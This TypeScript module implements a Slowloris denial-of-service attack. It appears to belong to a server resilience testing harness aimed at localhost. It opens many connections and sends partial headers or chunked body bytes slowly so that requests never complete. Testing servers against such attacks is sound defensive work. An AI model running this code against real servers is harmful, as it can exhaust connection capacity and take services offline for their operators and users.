/** Slowloris: requests that begin, and come on a line at a time without ever being whole. */
import type { Socket } from 'node:net'
import { type Attack, keepOpen, open, repeat } from './client.ts'

export interface DripAttack extends Attack {
  /** What never ends. Default: `headers`. */
  readonly of?: 'headers' | 'body'
  /** Kept open at once; one that is cut is replaced. Default: 1,000. */
  readonly connections?: number
}

const begun = {
  headers: 'GET /healthz HTTP/1.1\r\nHost: localhost\r\n',
  body: 'POST /-/reload HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n',
} as const
const drop = { headers: 'X-Wait: 1\r\n', body: '1\r\nx\r\n' } as const

/** @returns how many connections it made. */
export async function sendSlowly(attack: DripAttack): Promise<number> {
  const { of = 'headers', connections = 1_000 } = attack
  const sockets = new Set<Socket>()
  let made = 0
  let turn = 0
  await repeat(attack, 100, () => {
    // Each one gets its drop about once a second.
    let i = turn++
    for (const socket of sockets) if (i++ % 10 === 0) socket.write(drop[of])
    made += keepOpen(sockets, connections, () => {
      const socket = open(attack, begun[of])
      attack.answers?.read(socket)
      return socket
    })
  })
  for (const socket of sockets) socket.destroy()
  return made
}
